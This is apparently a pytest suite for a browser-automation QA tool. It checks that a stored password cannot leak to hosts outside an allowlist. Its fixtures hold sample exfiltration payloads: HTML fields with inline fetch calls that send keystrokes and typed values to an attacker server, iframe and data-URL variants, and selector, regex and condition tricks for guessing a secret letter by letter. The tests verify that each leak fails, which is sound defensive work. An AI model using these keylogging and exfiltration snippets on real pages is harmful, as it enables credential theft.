"""Attacks on secrets: a case that sends one to a server of its own, which notes every request."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from qa_queue.cases.hosts import HostList
from qa_queue.cases.model import Step
from qa_queue.cases.reader import parse_case
from qa_queue.models import ErrorKind
from tests.browser.conftest import Opener
from tests.support.poll import async_wait_until
from tests.support.running import ExecutionHarness
from tests.support.site import Site
from tests.support.steps import case, expect, goto, on, step

SECRET = "open sesame"
NAMES = frozenset({"PASSWORD"})
FORM = (
    "<form method=post action=/stolen><input id=f oninput=\"fetch('/stolen?' + value)\"><button>Go</button></form>"
)
KEYS = '<input id=f autofocus onkeydown="fetch(`/stolen?${event.key}`)" oninput="fetch(`/stolen?${value}`)">'


class _Evil(BaseHTTPRequestHandler):
    """Pages that send home what is typed into them."""

    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        self.server.heard.append(self.path)  # type: ignore[attr-defined]
        self._answer(KEYS if self.path == "/keys" else FORM)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"] or 0))
        self.server.heard.append(body.decode())  # type: ignore[attr-defined]
        self._answer("ok")

    def _answer(self, html: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(html)))
        self.end_headers()
        self.wfile.write(html.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Evil:
    """The attacker's server, on another port than the tested site."""

    def __init__(self, server: ThreadingHTTPServer) -> None:
        self.url = f"http://localhost:{server.server_port}"  # another site than 127.0.0.1, so another process
        self.heard: list[str] = server.heard  # type: ignore[attr-defined]

    def has_secret(self) -> bool:
        """Whether any request had a part of it."""
        return any(part in text for text in self.heard for part in ("open", "sesame"))


@pytest.fixture
def evil() -> Iterator[Evil]:
    with ThreadingHTTPServer(("127.0.0.1", 0), _Evil) as server:
        server.heard = []  # type: ignore[attr-defined]
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
        thread.start()
        yield Evil(server)
        server.shutdown()
        thread.join()


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch, site: Site) -> None:
    """A secret of the tested site alone."""
    monkeypatch.setenv("QA_SECRET_PASSWORD", SECRET)
    monkeypatch.setenv("QA_SECRET_PASSWORD_HOSTS", site.url.removeprefix("http://"))
    site.page("/form", "<input id=f><p id=p>")


@pytest.mark.parametrize("action", ["fill", "type"])
async def test_a_case_cannot_fill_it_in_elsewhere(harness: ExecutionHarness, evil: Evil, action: str) -> None:
    """The step fails with what to do, and no byte of it arrives."""
    steps = (goto("/"), on(action, "#f", value="${secret.PASSWORD}"), on("click", "button"))
    result = await harness.test(case(*steps, base_url=evil.url, trace="on"))
    assert (result.status, result.error_kind) == ("failed", ErrorKind.INPUT)
    assert "the secret PASSWORD may not be used at http://localhost:" in (result.error or "")
    assert "QA_SECRET_PASSWORD_HOSTS of the worker does not name this host" in (result.error or "")
    assert not evil.has_secret()


async def test_a_changed_base_url_does_not_help(harness: ExecutionHarness, site: Site, evil: Evil) -> None:
    """A stored case that somebody runs against a server of his own."""
    steps = (goto("/form"), on("fill", "#f", value="${secret.PASSWORD}"))
    good = await harness.test(case(*steps, expect("#f", value="${secret.PASSWORD}"), base_url=site.url))
    assert good.status == "completed"
    data = harness.submit(case(*steps, base_url=site.url), base_url=evil.url)
    bad = await harness.run(data)
    assert "may not be used at" in (bad.error or "")
    assert not evil.has_secret()


async def test_without_named_hosts_only_the_operator_may_use_it(
    harness: ExecutionHarness, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run that did not come from a file of the operator is refused before a page is opened."""
    monkeypatch.delenv("QA_SECRET_PASSWORD_HOSTS")
    written = case(goto("/form"), on("fill", "#f", value="${secret.PASSWORD}"), base_url=site.url)
    refused = await harness.test(written)
    assert (refused.error_kind, refused.completed_steps) == (ErrorKind.INPUT, 0)
    assert "set QA_SECRET_PASSWORD_HOSTS for the workers" in (refused.error or "")
    trusted = await harness.run(harness.submit(written, trusted=True))
    assert trusted.status == "completed"


async def test_a_list_that_cannot_be_read_refuses_the_run(
    harness: ExecutionHarness, site: Site, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It names the variable."""
    monkeypatch.setenv("QA_SECRET_PASSWORD_HOSTS", "http://shop/login")
    result = await harness.test(
        case(goto("/form"), on("fill", "#f", value="${secret.PASSWORD}"), base_url=site.url)
    )
    assert "QA_SECRET_PASSWORD_HOSTS: 'http://shop/login' is not a host" in (result.error or "")


@pytest.mark.parametrize(
    "args",
    [
        {"press": {"key": "${secret.PASSWORD}"}},
        {"goto": {"url": "/?${secret.PASSWORD}"}},
        {"request": {"get": "/", "params": {"key": "${secret.PASSWORD}"}}},
        {"upload": {"target": {"css": "#f"}, "files": ["${secret.PASSWORD}"]}},
        {"select": {"target": {"css": "#f"}, "value": "${secret.PASSWORD}"}},
    ],
)
async def test_it_stands_in_no_other_argument(harness: ExecutionHarness, evil: Evil, args: dict[str, dict]) -> None:
    """Also where a payload says so that no producer checked."""
    ((action, given),) = args.items()
    result = await harness.test(case(goto("/"), step(action, args=given), base_url=evil.url))
    assert (result.status, result.error_kind) == ("failed", ErrorKind.INPUT)
    assert not evil.has_secret()


@pytest.mark.parametrize(
    "attack",
    [
        {"if": {"value": "${secret.PASSWORD}", "matches": "^o"}, "then": [{"goto": "/begins-with-o"}]},
        {"goto": "/begins-with-o", "if": {"value": "${secret.PASSWORD}", "greater": "n"}},
        {
            "repeat": {
                "while": {"value": "${secret.PASSWORD}", "contains": "q"},
                "steps": [{"goto": "/begins-with-o"}],
            }
        },
        {"click": {"xpath": "//body[starts-with('${secret.PASSWORD}', 'o')]"}},
        {"click": {"css": "#f", "within": {"css": "body >> xpath=.//*[starts-with('${secret.PASSWORD}', 'o')]"}}},
        {"expect": {"target": "#p", "text": "/[${secret.PASSWORD}]/"}},
        {"expect": {"url": {"matches": "[${secret.PASSWORD}]"}}},
        {"expect": {"aria_snapshot": "- text: /[${secret.PASSWORD}]/"}},
    ],
)
async def test_a_case_cannot_find_it_out_by_comparing(
    harness: ExecutionHarness, site: Site, attack: dict[str, Any]
) -> None:
    """Letter by letter, although it stays on a named host: by conditions, values, expressions and selectors."""
    site.page("/begins-with-o", "<p>it begins with o</p>")
    document = {"version": 1, "name": "Guesses", "base_url": site.url, "steps": [{"goto": "/form"}, attack]}
    written = parse_case(document, source="the test")
    result = await harness.test(written)
    assert (result.status, result.error_kind) == ("failed", ErrorKind.INPUT)
    assert "${secret.PASSWORD} stands in a condition, a target, an expression or a comparison" in str(result.error)
    assert "/begins-with-o" not in [path for path, _ in site.heard]


async def test_a_case_cannot_read_it_back_and_send_it(harness: ExecutionHarness, site: Site, evil: Evil) -> None:
    """From the field of a named host into a variable; the operator's own runs may."""
    steps = (
        goto("/form"),
        on("fill", "#f", value="${secret.PASSWORD}"),
        on("extract", "#f", value="read"),
        goto(evil.url + "/?${var.read}"),
    )
    written = case(*steps, base_url=site.url)
    result = await harness.test(written)
    assert (result.error, result.error_kind) == (
        "step 3: what the step reads contains a secret, which a later step could send anywhere: only "
        "`qa-queue run FILE` may read it",
        ErrorKind.INPUT,
    )
    assert not evil.has_secret()
    trusted = await harness.run(harness.submit(written, trusted=True))
    assert trusted.status == "completed"


def fill_of(action: str) -> Step:
    return on(action, "#f", value=SECRET)


@pytest.mark.parametrize("action", ["fill", "type"])
@pytest.mark.parametrize(
    "html",
    [
        '<iframe src="{evil}/"></iframe>',
        '<iframe srcdoc="<iframe src={evil}/></iframe>"></iframe>',
        "<iframe src=\"data:text/html,<input id=f oninput=fetch('{evil}/?'+value)>\"></iframe>",
    ],
)
async def test_a_frame_of_another_host_gets_nothing(
    visit: Opener, site: Site, evil: Evil, action: str, html: str
) -> None:
    """The host is that of the frame which has the field, not that of the page."""
    hosts = {"PASSWORD": HostList.parse(site.url.removeprefix("http://"))}
    page = await visit(html.format(evil=evil.url), secret_hosts=hosts, secrets=(SECRET,))
    wanted = 3 if "srcdoc" in html else 2
    await async_wait_until(
        lambda: [bool(frame.url) for frame in page.page.frames] == [True] * wanted, what="the frame"
    )
    inner = {"css": "#f", "frame": {"css": "iframe"}}
    if "srcdoc" in html:
        inner["frame"]["frame"] = {"css": "iframe"}  # type: ignore[index]
    outcome = await page.session.perform(on(action, inner, value=SECRET), timeout_ms=5_000, secrets=NAMES)
    assert outcome.kind is ErrorKind.INPUT, outcome.error
    assert "may not be used at" in (outcome.error or "")
    assert not evil.has_secret()


@pytest.mark.parametrize("action", ["fill", "type"])
@pytest.mark.parametrize("html", ["<iframe src=/form></iframe>", '<iframe srcdoc="<input id=f>"></iframe>'])
async def test_a_frame_of_the_named_host_gets_it(visit: Opener, site: Site, action: str, html: str) -> None:
    """Also one that the page itself wrote."""
    hosts = {"PASSWORD": HostList.parse(site.url.removeprefix("http://"))}
    page = await visit(html, secret_hosts=hosts, secrets=(SECRET,))
    inner = {"css": "#f", "frame": {"css": "iframe"}}
    outcome = await page.session.perform(on(action, inner, value=SECRET), timeout_ms=5_000, secrets=NAMES)
    assert outcome.error is None
    assert await page.js("document.querySelector('iframe').contentDocument.querySelector('#f').value") == SECRET


@pytest.mark.parametrize("action", ["fill", "type"])
async def test_a_page_that_comes_between_two_keys_gets_nothing(visit: Opener, evil: Evil, action: str) -> None:
    """The first key leads to the attacker's page, which waits for the others with the focus in a field."""
    hosts = {"PASSWORD": HostList.parse("127.0.0.1")}
    long = SECRET * 60
    html = "<input id=f><script>gone = false; for (const kind of ['keydown', 'input']) f.addEventListener(kind, "
    html += f"() => {{ if (!gone) location = '{evil.url}/keys'; gone = true }})</script>"
    page = await visit(html, secret_hosts=hosts, secrets=(long,))
    await page.session.perform(on(action, "#f", value=long), timeout_ms=10_000, secrets=NAMES)
    await page.page.wait_for_url(f"{evil.url}/keys")
    assert await page.js("fetch('/after').then(answer => answer.status)") == 200
    assert "/after" in evil.heard
    assert not evil.has_secret()
    assert not [path for path in evil.heard if path.startswith("/stolen")]


@pytest.mark.parametrize("action", ["fill", "type"])
@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("<input id=f value=before>", "f.value"),
        ("<input id=f type=password value=before>", "f.value"),
        ("<textarea id=f>before</textarea>", "f.value"),
        ("<div id=f contenteditable>before</div>", "f.textContent"),
        ("<label id=f>Word <input></label>", "f.control.value"),
    ],
)
async def test_fields_of_every_kind_take_it(visit: Opener, site: Site, action: str, field: str, value: str) -> None:
    """`fill` replaces what was there, `type` adds to it; the page notices by the usual events."""
    script = "<script>seen = []; for (const kind of ['keydown', 'input', 'keyup', 'change'])"
    script += " addEventListener(kind, event => seen.push(kind))</script>"
    hosts = {"PASSWORD": HostList.parse("*")}
    page = await visit(field + script, secret_hosts=hosts, secrets=(SECRET,))
    outcome = await page.session.perform(fill_of(action), timeout_ms=5_000, secrets=NAMES)
    assert outcome.error is None
    filled = await page.js(value)
    assert filled == SECRET if action == "fill" else SECRET in filled
    assert await page.js("seen.filter(kind => kind == 'input').length") == (1 if action == "fill" else len(SECRET))
    assert await page.js("seen.filter(kind => kind == 'keydown').length") == (
        0 if action == "fill" else len(SECRET)
    )
